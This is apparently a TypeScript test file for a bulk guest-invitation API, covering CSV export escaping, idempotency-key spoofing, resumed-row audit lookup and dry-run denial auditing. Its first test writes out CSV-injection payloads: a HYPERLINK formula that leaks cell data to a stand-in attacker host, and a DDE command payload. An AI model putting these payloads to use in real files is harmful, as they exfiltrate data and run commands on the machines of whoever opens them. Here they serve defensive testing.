// A bulk job's file and its rows' keys come from callers: neither may turn against the job's
// reader or another caller's job.
import { randomUUID } from 'node:crypto'
import t from 'tap'
import { runBulkRow } from '../../../src/operations/bulk-jobs.js'
import { build } from '../../helper.js'

const HEADER = 'version:v1.0\nEmail address to invite [inviteeEmail] Required,Redirection url [inviteRedirectURL] Required'

t.test('results as CSV: a cell a spreadsheet would run as a formula comes back as text', async (t) => {
  // Before: the rejected addresses came back exactly as written, and a spreadsheet opening the
  // results ran =HYPERLINK(...) (OWASP CSV injection); the audit export and reports escaped theirs.
  const { as, token } = await build(t)
  const inviter = await token(['Guests.Invite'])
  const file = [HEADER,
    '"=HYPERLINK(""https://evil.example/?d=""&A3,""Click to verify"")",https://myapps.microsoft.com/',
    "@SUM(1+1)*cmd|' /C calc'!A0,https://myapps.microsoft.com/",
    '+1+1,https://myapps.microsoft.com/',
    'fine@partner.example,https://myapps.microsoft.com/'].join('\n') + '\n'
  const job = await as(inviter, { method: 'POST', url: '/v1/bulk/invitations', payload: file, headers: { 'content-type': 'text/csv' } })
  t.equal(job.statusCode, 202, job.body.slice(0, 300))
  const links = job.json<{ links: { events: string; results: string } }>().links
  t.match((await as(inviter, { method: 'GET', url: links.events })).body, /event: end\ndata: {"state":"completed"}/)

  const csv = (await as(inviter, { method: 'GET', url: `${links.results}?format=csv` })).body
  const lines = csv.split('\r\n')
  t.equal(lines.at(-1), '', 'CRLF line ends, the last one too')
  const firstCells = lines.slice(1, -1).map((line) => line.startsWith('"') ? line.slice(1, line.indexOf('",') === -1 ? undefined : line.indexOf('"', 1)) : line.split(',')[0]!)
  t.same(firstCells.map((cell) => cell[0]), ["'", "'", "'", 'f'], 'each formula cell starts with an apostrophe')
  t.notMatch(csv, /(^|\r\n|,)"?[=+@]/, 'no cell starts with = + or @')
  // NDJSON keeps the exact text.
  const ndjson = (await as(inviter, { method: 'GET', url: `${links.results}?format=ndjson` })).body.trim().split('\n').map((l) => JSON.parse(l) as { email: string })
  t.equal(ndjson[0]!.email, '=HYPERLINK("https://evil.example/?d="&A3,"Click to verify")')
})

t.test('a caller cannot send an Idempotency-Key of the form guestgate gives its bulk rows', async (t) => {
  const { as, token, simulator } = await build(t)
  const inviter = await token(['Guests.Invite'])
  for (const key of ['bulk:0b3f7a52-3f0e-4a5e-9f60-1c2d3e4f5a6b:1', 'BULK:anything']) {
    const refused = await as(inviter, { method: 'POST', url: '/v1/invitations', payload: { email: 'pick@partner.example', sendEmail: false }, headers: { 'idempotency-key': key } })
    t.equal(refused.statusCode, 400, key)
    t.match(refused.json(), { code: 'validation_failed', errors: [{ field: 'header/idempotency-key' }] })
  }
  t.equal(simulator.calls.filter((c) => c.method === 'POST' && c.path.endsWith('/invitations')).length, 0, 'nothing invited')
  const fine = await as(inviter, { method: 'POST', url: '/v1/invitations', payload: { email: 'pick@partner.example', sendEmail: false }, headers: { 'idempotency-key': 'my-bulk:1' } })
  t.equal(fine.statusCode, 201, 'other keys still work')
})

t.test('a resumed row settles from its own job\'s audit rows only, never another caller\'s with its key', async (t) => {
  // Before: a resumed row looked up audit rows by its key alone; another caller who had used
  // "bulk:<job>:<n>" as an Idempotency-Key made the victim's row succeed with the caller's guest.
  const { app, as, token, simulator } = await build(t)
  const victim = await token(['Guests.Invite'], { name: 'Victim' })
  const job = await as(victim, { method: 'POST', url: '/v1/bulk/invitations', payload: { invitations: [{ email: 'victim.pick@partner.example', sendEmail: false }] } })
  t.equal(job.statusCode, 202)
  const { id: jobId, links } = job.json<{ id: string; links: { events: string; results: string } }>()
  t.match((await as(victim, { method: 'GET', url: links.events })).body, /event: end\ndata: {"state":"completed"}/)
  const rowResult = async () => ((await as(victim, { method: 'GET', url: `${links.results}?format=ndjson` })).body.trim().split('\n').map((l) => JSON.parse(l) as { status: string; guestId: string | null }))[0]!
  const before = await rowResult()
  t.equal(before.status, 'succeeded')

  // Another caller's invitation rows carrying the row's key, later than the row's own.
  const operationId = randomUUID()
  const correlationId = randomUUID()
  const intruderGuest = randomUUID()
  const base = {
    operationId, requestId: randomUUID(), correlationId, action: 'invitation.invite', decision: 'allowed' as const, policyVersion: 'x',
    actor: { oid: randomUUID(), name: 'Intruder', tenantId: randomUUID(), roles: ['Guests.Invite'] },
    requestSummary: { idempotencyKey: `bulk:${jobId}:1`, email: 'intruder.pick@partner.example' },
  }
  await app.audit.append({ ...base, target: { type: 'invitation', id: null }, status: 'intent' })
  await app.audit.append({ ...base, target: { type: 'user', id: intruderGuest }, status: 'succeeded', graphStatus: 201 })

  // The row's worker died after its invitation: the row is still running and runs again.
  await app.prisma.$executeRaw`UPDATE bulk_job_rows SET state = 'running' WHERE job_id = ${jobId}::uuid AND number = 1`
  await app.prisma.$executeRaw`UPDATE bulk_jobs SET state = 'running', finished_at = NULL WHERE id = ${jobId}::uuid`
  const invitations = simulator.calls.filter((c) => c.method === 'POST' && c.path.endsWith('/invitations')).length
  await runBulkRow(app, { jobId, number: 1 }, { retryCount: 1, retryLimit: 10 })

  const after = await rowResult()
  t.equal(after.status, 'succeeded')
  t.equal(after.guestId, before.guestId, 'the row keeps its own guest')
  t.not(after.guestId, intruderGuest)
  t.equal(simulator.calls.filter((c) => c.method === 'POST' && c.path.endsWith('/invitations')).length, invitations, 'and is not invited again')
})

t.test('a dry run whose rows the policy would refuse is audited as a denial', async (t) => {
  // Before: the rows' refusals were answered but the dry run's audit row said "allowed"; a
  // single invitation's dry run records its denial, and the real job audits each refused row.
  const { app, as, token } = await build(t)
  const inviter = await token(['Guests.Invite'])
  const dry = await as(inviter, { method: 'POST', url: '/v1/bulk/invitations?dryRun=true', payload: { invitations: [{ email: 'fine@partner.example', sendEmail: false }, { email: 'eve@evil.example', sendEmail: false }] } })
  t.equal(dry.statusCode, 200, dry.body.slice(0, 300))
  const { operationId } = dry.json<{ operationId: string }>()
  const rows = await app.prisma.auditEvent.findMany({ where: { operationId } })
  t.equal(rows.length, 1)
  t.match(rows[0], { status: 'dry-run', decision: 'denied', ruleId: 'invitations.domain-not-allowed', requestSummary: { deniedRows: 1, firstDenied: [{ row: 2, rule: 'invitations.domain-not-allowed' }] } })

  const clean = await as(inviter, { method: 'POST', url: '/v1/bulk/invitations?dryRun=true', payload: { invitations: [{ email: 'fine2@partner.example', sendEmail: false }] } })
  const cleanRow = await app.prisma.auditEvent.findFirst({ where: { operationId: clean.json<{ operationId: string }>().operationId } })
  t.match(cleanRow, { decision: 'allowed', requestSummary: { deniedRows: 0 } }, 'a file the policy allows is not a denial')
})
